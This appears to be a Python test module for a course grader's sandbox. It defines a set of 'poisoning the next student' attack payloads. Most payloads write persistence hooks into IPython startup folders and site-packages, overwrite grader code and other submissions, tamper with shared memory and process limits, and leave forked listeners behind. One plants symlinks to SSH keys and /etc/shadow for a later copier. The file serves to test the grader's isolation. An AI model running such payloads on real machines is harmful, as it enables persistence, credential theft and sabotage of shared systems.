"""Attacks on the next student: whatever is left behind would run, or be seen, when he is graded.

Every honest neighbour of the class is a witness: an extra cell looks for traces (see classroom.py).
"""

from tests.grader.attacks.attack import Attack, family
from tests.grader.attacks.course import ANSWERS


def leaves(name, tries, code, **more):
    """Return an attack that leaves something behind and answers honestly."""
    text = f"{code}\nprint('left it')\n\n{ANSWERS['scale']}"
    return Attack(name, tries, {"scale": text}, shows="left it", **more)


WRITE = """\
import os
def write(path, text="print('poison')\\n", mode=0o755):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
        os.chmod(path, mode)
        return True
    except OSError:
        return False
"""

ATTACKS = family(
    "poisoning the next student",
    leaves(
        "startup_files",
        "writes start-up files of IPython and Jupyter, in the home and elsewhere",
        WRITE
        + """
import IPython
for home in {os.path.expanduser("~"), "@HOME@", "/root", "/home", os.environ.get("IPYTHONDIR", "")}:
    write(f"{home}/.ipython/profile_default/startup/00-poison.py")
    write(f"{home}/.ipython/profile_default/ipython_config_poison.py")
    write(f"{home}/.jupyter/poison_config.py")
    write(f"{home}/.bashrc_poison")
write(get_ipython().profile_dir.startup_dir + "/00-poison.py") if getattr(get_ipython(), "profile_dir", None) else None
""",
    ),
    leaves(
        "site_packages",
        "writes into site-packages: .pth files, sitecustomize, a patched NumPy",
        WRITE
        + """
import site, sys, numpy
folders = {*site.getsitepackages(), site.getusersitepackages(), *filter(None, sys.path), os.path.dirname(os.__file__)}
for folder in folders:
    write(f"{folder}/poison.pth", "import sys; sys.poison = 1")
    write(f"{folder}/poison_customize.py")
for folder in folders:
    path = f"{folder}/numpy/testing/poison.py"
    print(os.path.isdir(os.path.dirname(path)) and write(path))
""",
    ),
    leaves(
        "shared_folders",
        "leaves files in /tmp, /var/tmp, /dev/shm, /run and the work folder",
        WRITE
        + """
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", ".", "..", "/", "/etc", "/home", "/root", "@HOME@", "@COURSE@"):
    write(f"{folder}/poison-left")
""",
    ),
    leaves(
        "course_folders",
        "overwrites neighbours' submissions, the source and the settings",
        WRITE
        + """
for path in ("solutions/vault/poison.py", "submitted/model/vault/poison.py", "poison_config.py", "exercises/vault/poison.py"):
    write(f"@COURSE@/{path}")
    write(f"../../../{path}")
""",
    ),
    leaves(
        "grader_code",
        "overwrites the grader's own code, its bytecode and its sockets",
        WRITE
        + """
import sys
for name, module in list(sys.modules.items()):
    path = getattr(module, "__file__", None) or ""
    if name.startswith("grader") and path:
        folder = os.path.dirname(path)
        write(f"{folder}/poison.py")
        write(f"{folder}/__pycache__/poison.pyc")
        try:
            open(path, "a").close()
            print("could change", path)
        except OSError:
            pass
""",
    ),
    leaves(
        "system_v_ipc",
        "leaves shared memory, semaphores and message queues of System V and POSIX",
        """
import ctypes, os
libc = ctypes.CDLL(None)
print([libc.shmget(0x7015, 4096, 0o1666), libc.semget(0x7015, 1, 0o1666), libc.msgget(0x7015, 0o1666)])
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory("poison-shm", create=True, size=4096)
except OSError:
    pass
""",
    ),
    leaves(
        "kernel_keyring",
        "leaves a key in the keyrings of its session and user",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.syscall.restype = ctypes.c_long
for ring in (-3, -4, -5):
    libc.syscall(248, b"user", b"poison-key", b"poison", 6, ring)
""",
    ),
    leaves(
        "inherited_memory",
        "writes into every shared mapping that it was born with",
        """
import ctypes
for line in open("/proc/self/maps"):
    span, rights, _, device, inode, *path = line.split(None, 5)
    if "w" in rights and "s" in rights:
        low, high = (int(part, 16) for part in span.split("-"))
        print("shared and writable:", path)
        ctypes.memset(low, 0x50, min(high - low, 4096))
""",
    ),
    leaves(
        "abstract_listener",
        "listens on abstract sockets and ports, and stays",
        """
import os, socket
hold = []
for address in ("\\0poison-listener",):
    s = socket.socket(socket.AF_UNIX)
    s.bind(address)
    s.listen()
    hold.append(s)
s = socket.socket()
s.bind(("127.0.0.1", 47015))
s.listen()
hold.append(s)
if os.fork() == 0:
    import time
    time.sleep(120)
    os._exit(0)
""",
    ),
    leaves(
        "changed_libraries_in_memory",
        "changes NumPy, IPython and built-ins in memory, for forks to come",
        """
import builtins, gc, sys, numpy as np
np.poison = builtins.poison = sys.poison = "poison"
sys.path.insert(0, "/tmp/poison")
for shell in [thing for thing in gc.get_objects() if type(thing).__name__.endswith("InteractiveShell")]:
    shell.user_ns["poison"] = "poison"
""",
    ),
    leaves(
        "limits_and_priorities",
        "changes limits, priorities, masks and clocks of all it may",
        """
import os, resource
for target in (0, 1, os.getppid(), -1):
    for change in (lambda: os.setpriority(os.PRIO_PROCESS, target, 19), lambda: os.setpriority(os.PRIO_USER, 0, 19),
                   lambda: resource.prlimit(target, resource.RLIMIT_NOFILE, (3, 3)) if target > 0 and target != os.getpid() else None,
                   lambda: os.sched_setaffinity(target, {0})):
        try:
            change()
        except (OSError, ValueError, PermissionError):
            pass
os.umask(0)
os.chdir("/")
""",
        may_lose=(),
    ),
    leaves(
        "files_for_the_copier",
        "leaves links and pipes in its folder for whoever copies it",
        """
import os
for name, goal in (("vault.ipynb", "@COURSE@/solutions/vault/vault.ipynb"), ("data.csv", "@HOME@/.ssh/id_ed25519"),
                   ("result.json", "/etc/shadow"), ("timestamp.txt", "@TMPFILE@")):
    try:
        os.path.exists(name) and os.unlink(name)
        os.symlink(goal, name)
    except OSError:
        pass
try:
    os.mkfifo("pipe.txt")
except OSError:
    pass
""",
    ),
    leaves(
        "control_socket",
        "sends orders to every socket that it was born with, as its own server would",
        """
import json, os, socket, stat
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if fd > 2 and stat.S_ISSOCK(os.fstat(fd).st_mode):
            other = socket.socket(fileno=os.dup(fd))
            print(fd, other.family.name, other.type.name)
            if other.type == socket.SOCK_SEQPACKET:
                for order in ({"op": "spawn"}, {"op": "stop"}, {"kind": "fork"}):
                    other.send(json.dumps(order).encode(), socket.MSG_DONTWAIT)
    except OSError as error:
        print(fd, error.strerror)
""",
    ),
)
